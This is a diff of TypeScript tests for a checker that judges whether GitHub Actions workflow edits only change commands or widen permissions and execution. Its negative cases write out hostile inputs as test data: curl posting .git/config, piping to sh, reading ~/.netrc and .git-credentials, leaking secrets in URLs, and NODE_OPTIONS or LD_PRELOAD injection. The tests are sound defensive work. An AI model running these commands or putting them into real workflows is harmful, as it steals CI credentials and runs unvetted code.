@@ -116,6 +116,56 @@ describe('a new workflow step reading an env value the workflow sets itself (tru
   });
 });
 
+describe('a permissions block tightened beside a command edit (trusted-routine)', () => {
+  const wf = (top: string[], job: string[], cmd = 'npm test') =>
+    ['name: ci', 'on: [push, pull_request]', ...top, 'jobs:', '  test:', '    runs-on: ubuntu-latest', ...job, '    steps:', '      - uses: actions/checkout@v4', `      - run: ${cmd}`, ''].join('\n');
+  it('reads a block written where the default token ran, or scopes lowered, as no wider', () => {
+    expect(editsOnlyCommands(wf([], []), wf(['permissions:', '  contents: read'], [], 'npm run test:ci'), 'workflow')).toBe(true);
+    expect(editsOnlyCommands(wf([], []), wf(['permissions:', '  issues: write', '  pull-requests: write'], []), 'workflow')).toBe(true);
+    expect(editsOnlyCommands(wf(['permissions: write-all'], []), wf(['permissions: {}'], ['    permissions:', '      contents: read']), 'workflow')).toBe(true);
+    expect(editsOnlyCommands(wf(['permissions:', '  contents: write', '  packages: write'], []), wf(['permissions:', '  contents: write'], []), 'workflow')).toBe(true);
+  });
+  it('does not when a scope is raised, a block is dropped back to the default token, or an OIDC token is granted', () => {
+    expect(editsOnlyCommands(wf(['permissions:', '  contents: read'], []), wf(['permissions:', '  contents: write'], []), 'workflow')).toBe(false);
+    expect(editsOnlyCommands(wf(['permissions:', '  contents: read'], []), wf([], []), 'workflow')).toBe(false);
+    expect(editsOnlyCommands(wf([], []), wf(['permissions:', '  contents: read', '  id-token: write'], []), 'workflow')).toBe(false);
+    expect(editsOnlyCommands(wf(['permissions: read-all'], []), wf(['permissions:', '  contents: read', '  statuses: write'], []), 'workflow')).toBe(false);
+    // The job's own block replaces the workflow's: a job given write where the workflow read.
+    expect(editsOnlyCommands(wf(['permissions:', '  contents: read'], []), wf(['permissions:', '  contents: read'], ['    permissions:', '      contents: write']), 'workflow')).toBe(false);
+  });
+});
+
+describe('a release step that asks the Go module proxy for the new version (trusted-routine)', () => {
+  const wf = (steps: string[]) =>
+    ['name: release', 'on:', '  push:', "    tags: ['v*']", 'permissions:', '  contents: write', 'jobs:', '  release:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: goreleaser/goreleaser-action@v6', '        with:', '          args: release --clean', '        env:', '          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}', ...steps, ''].join('\n');
+  const step = (run: string[]) => ['      - name: Refresh pkg.go.dev', '        run: |', ...run.map((line) => `          ${line}`)];
+  const base = wf([]);
+  it('reads a GET of proxy.golang.org or sum.golang.org for the repository and tag, and constant echoes, as running nothing new', () => {
+    expect(editsOnlyCommands(base, wf(step(['echo "Asking the module proxy for the new release"', 'curl -sSf "https://proxy.golang.org/github.com/${GITHUB_REPOSITORY,,}/@v/${GITHUB_REF_NAME}.info"'])), 'workflow')).toBe(true);
+    expect(editsOnlyCommands(base, wf(step(['curl --silent --fail https://sum.golang.org/lookup/github.com/${{ github.repository }}@${{ github.ref_name }}'])), 'workflow')).toBe(true);
+  });
+  it('does not for another host, data sent, a file written, a pipe to a shell, another expansion or a workflow command echoed', () => {
+    const no = (run: string[]) => expect(editsOnlyCommands(base, wf(step(run)), 'workflow')).toBe(false);
+    no(['curl -sSf "https://proxy.golang.example/github.com/${GITHUB_REPOSITORY}/@v/${GITHUB_REF_NAME}.info"']);
+    no(['curl -sSf -d @.git/config "https://proxy.golang.org/github.com/${GITHUB_REPOSITORY}/@v/${GITHUB_REF_NAME}.info"']);
+    no(['curl -sSfo tool "https://proxy.golang.org/github.com/acme/tool/@v/v1.0.0.zip"']);
+    no(['curl -sSf "https://proxy.golang.org/github.com/acme/tool/@v/list" | sh']);
+    no(['curl -sSf "https://proxy.golang.org/github.com/${GITHUB_REPOSITORY}/@v/$(cat ~/.netrc).info"']);
+    no(['curl -sSf "https://proxy.golang.org/github.com/${GITHUB_REPOSITORY}/@v/${{ secrets.GITHUB_TOKEN }}.info"']);
+    no(['curl -sSf "https://proxy.golang.org/github.com/${GITHUB_REPOSITORY}/@v/${TAG}.info"']);
+    no(['echo "Refreshing the index"', 'echo "::set-env name=NODE_OPTIONS::--require ./x.js"']);
+  });
+});
+
+describe('a leading assignment of a variable that loads code (trusted-routine)', () => {
+  const wf = (steps: string[]) => ['name: ci', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: npm test', ...steps, ''].join('\n');
+  it('keeps it with the command: NODE_OPTIONS or LD_PRELOAD before a known command is a new command; CI=true is not', () => {
+    expect(editsOnlyCommands(wf([]), wf(['      - run: CI=true npm test']), 'workflow')).toBe(true);
+    expect(editsOnlyCommands(wf([]), wf(['      - run: NODE_OPTIONS=--require=./scripts/hook.js npm test']), 'workflow')).toBe(false);
+    expect(editsOnlyCommands(wf([]), wf(['      - run: LD_PRELOAD=./build/libx.so npm test']), 'workflow')).toBe(false);
+  });
+});
+
 describe('a new workflow step that only writes constant lines to GITHUB_ENV / GITHUB_OUTPUT (trusted-routine)', () => {
   const wf = (steps: string[]) =>
     ['name: ci', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    strategy:', '      matrix:', '        python: ["3.13", "3.14", "3.14t"]', '    steps:', '      - uses: actions/checkout@v4', '      - run: python -m nox -s test', ...steps, ''].join('\n');
@@ -125,6 +175,24 @@ describe('a new workflow step that only writes constant lines to GITHUB_ENV / GI
     expect(editsOnlyCommands(base, wf(step(['echo "PYTHON_GIL=0" >> "$GITHUB_ENV"'])), 'workflow')).toBe(true);
     expect(editsOnlyCommands(base, wf(step(["printf 'FORCE_COLOR=1\\n' >> $GITHUB_ENV", 'echo "flavor=${{ matrix.python }}" >> "${GITHUB_OUTPUT}"'])), 'workflow')).toBe(true);
     expect(editsOnlyCommands(base, wf(step(['# free-threaded build', 'echo PYTHON_GIL=0 >> $env:GITHUB_ENV'])), 'workflow')).toBe(true);
+  });
+  it('reads a value made of a toolchain fact (a version digest, a cache directory, the date) as constant, in the file or as a workflow command', () => {
+    const yes = (run: string[]) => expect(editsOnlyCommands(base, wf(step(run)), 'workflow')).toBe(true);
+    yes(['echo "PY=$(python -VV | sha256sum | cut -d\' \' -f1)" >> $GITHUB_ENV']);
+    yes(['echo "::set-env name=PY::$(python -VV | sha256sum | cut -d\' \' -f1)"']);
+    yes(['echo "::set-output name=dir::$(pip cache dir)"']);
+    yes(['echo "pip-dir=$(pip cache dir)" >> "$GITHUB_OUTPUT"', 'echo "dir=$(yarn cache dir)" >> "$GITHUB_OUTPUT"', 'echo "week=$(date -u +%Y-%V)" >> "$GITHUB_OUTPUT"']);
+  });
+  it('does not for another program, a path or a loading variable in a substitution, or another workflow command', () => {
+    const no = (run: string[]) => expect(editsOnlyCommands(base, wf(step(run)), 'workflow')).toBe(false);
+    no(['echo "PY=$(./tools/version.sh | sha256sum)" >> $GITHUB_ENV']);
+    no(['echo "PY=$(python -c \'import os\')" >> $GITHUB_ENV']);
+    no(['echo "KEY=$(python -VV | head -c 40 /home/runner/.git-credentials)" >> $GITHUB_ENV']);
+    no(['echo "KEY=$(python -VV | sh)" >> $GITHUB_ENV']);
+    no(['echo "::set-env name=NODE_OPTIONS::--require ./x.js"']);
+    no(['echo "::set-env name=LD_PRELOAD::$(python -VV)"']);
+    no(['echo "::add-path::/tmp/bin"']);
+    no(['echo "::set-output name=t::$(curl -s https://example.test)"']);
   });
   it('does not when the variable makes later steps run or load something', () => {
     for (const name of ['LD_PRELOAD', 'NODE_OPTIONS', 'BASH_ENV', 'PYTHONPATH', 'PATH', 'GIT_SSH_COMMAND', 'PIP_INDEX_URL', 'npm_config_registry', 'DYLD_INSERT_LIBRARIES', 'HTTPS_PROXY', 'GOPROXY']) {
